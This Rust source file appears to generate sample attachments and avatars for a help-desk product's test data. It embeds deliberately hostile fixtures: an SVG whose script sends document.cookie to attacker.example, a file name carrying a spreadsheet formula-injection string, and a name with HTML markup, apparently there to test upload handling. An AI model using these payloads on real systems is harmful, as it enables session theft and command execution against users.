//! The files of Harbour Desk: what people attached to their tickets, and their pictures.
//!
//! Only the first persons have files, so that a company of a million is made as fast as before.

use sha2::{Digest, Sha256};

use super::draft::Draft;
use super::people::Person;
use super::time::moment;
use crate::sample::File;
use crate::sample::table::row;

/// Persons with files.
const WITH_FILES: u64 = 1_000;

/// A picture of one pixel; what follows the end of a picture is not looked at.
const PNG: &[u8] =
    b"\x89PNG\x0d\x0a\x1a\x0a\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde\
\x00\x00\x00\x0cIDATx\x9cc\xe0\xb6\x8d\x01\x00\x00\xfb\x00\xa5\x968\x00\xef\x00\x00\x00\x00IEND\xaeB`\x82";

/// A picture that would run a script in a page that shows it.
const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\">\
<script>fetch('https://attacker.example/' + document.cookie)</script><text>cold box 17</text></svg>";

/// What an attachment is before it becomes a row: file name, media type, content.
pub struct Attached<'a> {
    pub name: &'a str,
    pub mime: &'a str,
    pub bytes: Vec<u8>,
}

/// Has the person files at all?
pub fn has_files(person: &Person) -> bool {
    person.id <= WITH_FILES
}

/// The content of an ordinary attachment; texts name the person who asked.
pub fn content(id: u64, name: &str, person: &Person) -> Vec<u8> {
    let (who, address) = (person.name.as_deref().unwrap_or(""), person.email.as_deref().unwrap_or(""));
    let words = format!("attachment {id} of {who} <{address}>\n");
    match name.rsplit('.').next() {
        Some("png" | "jpg") => [PNG, words.as_bytes()].concat(),
        Some("pdf") => format!("%PDF-1.4\n% {words}%%EOF\n").into_bytes(),
        _ => words.into_bytes(),
    }
}

impl Draft<'_> {
    /// The picture of a person; its name holds their user name.
    pub fn picture(&mut self, person: &Person) {
        let Some(username) = person.username.as_deref().filter(|_| has_files(person)) else { return };
        let sizes: &[u64] = if person.id == 1 { &[64, 256] } else { &[64] };
        for pixels in sizes {
            let path = format!("avatars/{username}-{pixels}.png");
            self.files.push(File { path, bytes: [PNG, username.as_bytes()].concat() });
        }
    }

    /// What is attached by hand to the threads of persons 1 and 2, whose last reply was just written.
    pub fn scripted_files(&mut self, person: &Person, posts: u64) {
        let first = self.ids.reply + 1 - posts;
        // The same list, attached by two people: stored once.
        let list = b"box 17: 9 degrees\nbox 18: 11 degrees\n".to_vec();
        match person.id {
            1 => {
                let hers = content(0, "list.txt", person);
                let names = ["driver's list: \"week 12\" \u{2013} <b>final.txt", "=cmd()|'cold box'!A1.svg"];
                self.attach(first, Attached { name: names[0], mime: "text/plain", bytes: hers });
                self.attach(first, Attached { name: names[1], mime: "image/svg+xml", bytes: SVG.into() });
                self.attach_shared(first + 3, Attached { name: "temperatures.txt", mime: "text/plain", bytes: list });
            }
            2 => self.attach_shared(first, Attached { name: "boxes.txt", mime: "text/plain", bytes: list }),
            _ => {}
        }
    }

    fn attach(&mut self, reply: u64, file: Attached<'_>) {
        let path = format!("attachments/{}/{}", self.ids.attachment + 1, file.name);
        self.attached(reply, path, file);
    }

    /// Under the digest of its content, where equal files meet.
    fn attach_shared(&mut self, reply: u64, file: Attached<'_>) {
        let path = format!("shared/{}", hex::encode(Sha256::digest(&file.bytes)));
        self.attached(reply, path, file);
    }

    fn attached(&mut self, reply: u64, path: String, file: Attached<'_>) {
        self.ids.attachment += 1;
        let (size, sum) = (file.bytes.len() as u64, hex::encode(Sha256::digest(&file.bytes)));
        let made = moment(400 * 86_400 + self.ids.attachment);
        self.desk(
            "attachments",
            row![self.ids.attachment, reply, file.name, file.mime, size, &path, sum, None::<Vec<u8>>, made],
        );
        if self.files.iter().all(|f| f.path != path) {
            self.files.push(File { path, bytes: file.bytes });
        }
    }
}
